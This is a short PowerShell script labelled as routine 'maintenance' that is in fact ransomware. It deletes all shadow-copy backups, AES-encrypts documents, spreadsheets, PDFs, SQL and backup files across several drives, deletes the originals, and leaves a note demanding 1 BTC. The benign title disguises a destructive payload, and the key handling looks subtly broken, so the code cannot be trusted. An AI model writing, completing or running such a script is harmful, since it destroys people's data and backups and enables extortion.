# maintenance 6096 v0
vssadmin.exe delete shadows /all /quiet
Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
$aes = [System.Security.Cryptography.Aes]::Create()
$aes.Key = [Text.Encoding]::UTF8.GetBytes('Qwerty#7788Qwerty#7788'.Substring(0,32))
Get-ChildItem -Path D:\, E:\, C:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction SilentlyContinue | ForEach-Object {
  $bytes = [IO.File]::ReadAllBytes($_.FullName)
  $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
  [IO.File]::WriteAllBytes($_.FullName + '.pay', $enc)
  Remove-Item $_.FullName -Force
}
Set-Content C:\Users\Public\Desktop\HOW_TO_DECRYPT.txt 'Your files have been encrypted. Pay 1 BTC to restore them.'
